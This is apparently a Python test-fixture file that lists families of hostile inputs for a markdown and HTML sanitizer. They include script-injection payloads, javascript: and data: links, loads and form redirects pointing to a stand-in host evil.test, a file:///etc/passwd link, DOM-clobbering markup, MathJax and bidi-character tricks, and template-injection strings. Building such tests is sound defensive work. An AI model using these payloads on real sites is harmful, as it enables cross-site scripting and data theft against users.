"""Texts that try to run a script, load something, leave the page, or take it over."""

from __future__ import annotations

PWN = "window.__pwned=1"
EVIL = "https://evil.test"

SCRIPTS = [
    f"<script>{PWN}</script>",
    f"<ScRiPt src={EVIL}/x.js></sCrIpT>",
    f"<img src=x onerror={PWN}>",
    f"<svg onload={PWN}><script>{PWN}</script></svg>",
    f"<svg><animate onbegin={PWN} attributeName=x dur=1s></svg>",
    f"<details open ontoggle={PWN}>x</details>",
    f"<input autofocus onfocus={PWN}>",
    f"<video><source onerror={PWN}></video>",
    f"<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={PWN}>x</p>",
    f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>',
    f"<object data=data:text/html,<script>{PWN}</script>></object>",
    f'<noscript><p title="</noscript><img src=x onerror={PWN}>">',
    f"{{{{constructor.constructor('{PWN}')()}}}} ${{{PWN}}}",
]
HTMX = [
    f'<div hx-get="/history" hx-trigger="load" hx-on:load="{PWN}">x</div>',
    '<div data-hx-post="/history/delete" data-hx-trigger="load">x</div>',
    '<div hx-get="/history" hx-trigger="load" hx-target="body">x</div>',
]
LINKS = [
    f"[a](javascript:{PWN}) [b](JaVaScRiPt:{PWN}) [c](java&#10;script:{PWN})",
    f"[d](javascript&colon;{PWN}) [e](&#1;javascript:{PWN}) [f](vbscript:{PWN})",
    f"[g](data:text/html,<script>{PWN}</script>) [h](blob:x) [i](file:///etc/passwd)",
    f"[j](java\nscript:{PWN}) [k](\njavascript:{PWN}\n) [l\nm](<javascript:{PWN}>)",
    f"<javascript:{PWN}> <data:text/html,<script>{PWN}</script>>",
    f'[n]({EVIL} "onmouseover={PWN}") [o]({EVIL}/"onclick="{PWN}) <{EVIL}/?"onload="{PWN}>',
    f"[p] [q][p]\n\n[p]: javascript:{PWN} 'x\" onload=\"{PWN}'",
    f"[[r](javascript:{PWN})](javascript:{PWN}) [![s](x)](javascript:{PWN})",
    f"<a href=javascript:{PWN} autofocus>t</a> [u](\\\\evil.test) [v](//evil.test)",
    f"<a href={EVIL} ping={EVIL}/ping target=_top>w</a>",
]
LOADS = [
    f"![a]({EVIL}/a.png) ![b](//evil.test/b.png) ![c][r] ![]({EVIL}/d.png 'x')",
    f"[r]: {EVIL}/c.png",
    f"<img src={EVIL}/e.png srcset={EVIL}/f.png> <picture><source srcset={EVIL}/g.png></picture>",
    f"<video poster={EVIL}/h.png src={EVIL}/i.mp4></video> <audio src={EVIL}/j.mp3></audio>",
    f"<input type=image src={EVIL}/k.png> <table background={EVIL}/l.png><tr><td>x</table>",
    f"<link rel=stylesheet href={EVIL}/m.css> <link rel=dns-prefetch href={EVIL}>",
    f"<link rel=preload as=image href={EVIL}/n.png> <link rel=prerender href={EVIL}/o>",
    f"![p](data:image/svg+xml,<svg onload={PWN}>) ![q](data:image/png;base64,AAAA)",
    f"<svg><image href={EVIL}/r.png /><use href={EVIL}/s.svg#x /></svg>",
    f"<style>@import url({EVIL}/t.css); body {{ background: url({EVIL}/u.png) }}</style>",
    f'<p style="background:url({EVIL}/v.png);position:fixed;inset:0;z-index:999">x</p>',
]
LEAVING = [
    f"<base href={EVIL}/> <base target=_blank>",
    f"<meta http-equiv=refresh content=0;url={EVIL}/a>",
    f"<form action={EVIL}/b><input name=x><button autofocus>x</button></form>",
    f"<form action=/history/delete method=post><button formaction={EVIL}>x</button></form>",
    f"<iframe src={EVIL}/c></iframe> <frameset><frame src={EVIL}/d></frameset>",
    f"<object data={EVIL}/e></object> <embed src={EVIL}/f> <portal src={EVIL}/g></portal>",
]
CLOBBERING = [
    "<a id=battle></a> <a id=stage name=getElementById></a> <img name=body> <form id=stop-form>",
    "<input name=choice value=b checked> <textarea name=prompt>x</textarea> <a id=result-title>",
    f"<pa-battle data-live data-events={EVIL}/events data-id=x></pa-battle>",
    "<pa-ballot></pa-ballot> <pa-composer></pa-composer>",
    "<p class=dock data-problem>x</p> <span data-announce>x</span> <div data-fill=x>y</div>",
    "# battle\n\n# stop-form {#stage}\n\ntext[^1]\n\n[^1]: footnote",
    '<button data-copy="#comment">Copy</button> <meta name=client-messages content="{}">',
    "<form><input name=attributes><input name=parentNode></form> <svg id=document></svg>",
]
CODE = [
    f'```html onclick={PWN}"><script>\n<script>{PWN}</script>\n```',
    f'~~~"><img/src=x/onerror={PWN}>\n</code></pre><script>{PWN}</script>\n~~~',
    f"`<script>{PWN}</script>` ``</code><img src=x onerror={PWN}>``",
    f"| <script>{PWN}</script> | b |\n|---|---|\n| <img src=x onerror={PWN}> | `|</td>` |",
]
MATHS = [
    f"$\\href{{javascript:{PWN}}}{{x}}$ $\\url{{javascript:{PWN}}}$ $\\class{{dock}}{{x}}$",
    f"$\\text{{<img src=x onerror={PWN}>}}$",
    "$\\style{position:fixed}{x}$ $\\cssId{battle}{x}$ $\\unicode{<script>}$",
    f"$$\\includegraphics{{{EVIL}/a.png}}$$ $\\html{{<script>{PWN}</script>}}$",
    "$\\def\\a{\\a\\a}\\a$ $\\newcommand{\\b}{\\b\\b}\\b$ $" + "\\frac{" * 200 + "$",
    "<math><mtext><table><mglyph><style><!--</style>",
    f'<img title="--&gt;&lt;img src onerror={PWN}&gt;">',
    f"<math href=javascript:{PWN}><maction actiontype=statusline xlink:href=javascript:{PWN}>x",
    f'<svg></p><style><a id="</style><img src=1 onerror={PWN}>">',
]
CONTROLS = [
    f"\x1b[31mred\x1b[0m \x1b]0;title\x07 \x1b]8;;{EVIL}\x1b\\link\x1b]8;;\x1b\\ \x9b1m \x08\x08",
    "\u202egnp.exe\u202c \u2066isolate \u2067never closed \u061c \u200b\u200c\u200d\ufeff\u2060",
    f"<scr\u200bipt>{PWN}</scr\u200bipt> <\u0000script>{PWN}</script> \uff1cscript\uff1e",
    f"\u2028<script>{PWN}</script>\u2029 \u0085 \ufffe \ud7ff \U000e0041\U000e0042",
    "e" + "\u0301" * 3000 + " " + "ก้้้้้้้้้้" * 50,
]
UNCLOSED = [
    f"</textarea></div></article></pa-battle></main></body></html><script>{PWN}</script>",
    f"</title></style></noscript></template></xmp></iframe><img src=x onerror={PWN}>",
    f"<div><table><tr><td><b><i><a href='{EVIL}",
    f"<!-- <script>{PWN}</script> --!> <![CDATA[<script>{PWN}</script>]]>",
    f"<?x <script>{PWN}</script>",
    f"<plaintext><xmp><listing><script>{PWN}",
    f'<img src="x" alt="`" onerror={PWN} ` ```\n<script>{PWN}',
]

FAMILIES = {
    "scripts": SCRIPTS,
    "htmx": HTMX,
    "links": LINKS,
    "loads": LOADS,
    "leaving": LEAVING,
    "clobbering": CLOBBERING,
    "code": CODE,
    "maths": MATHS,
    "controls": CONTROLS,
    "unclosed": UNCLOSED,
}

NAMES = [
    f"<img src=x onerror={PWN}>",
    f'"><svg onload={PWN}>',
    f"' onmouseover='{PWN}' autofocus onfocus='{PWN}",
    f"javascript:{PWN}",
    f"[x](javascript:{PWN}) <!--",
    "{{7*7}}${7*7}<%=7*7%>",
    "\u202egnp.exe <script>",
    "constructor",
]
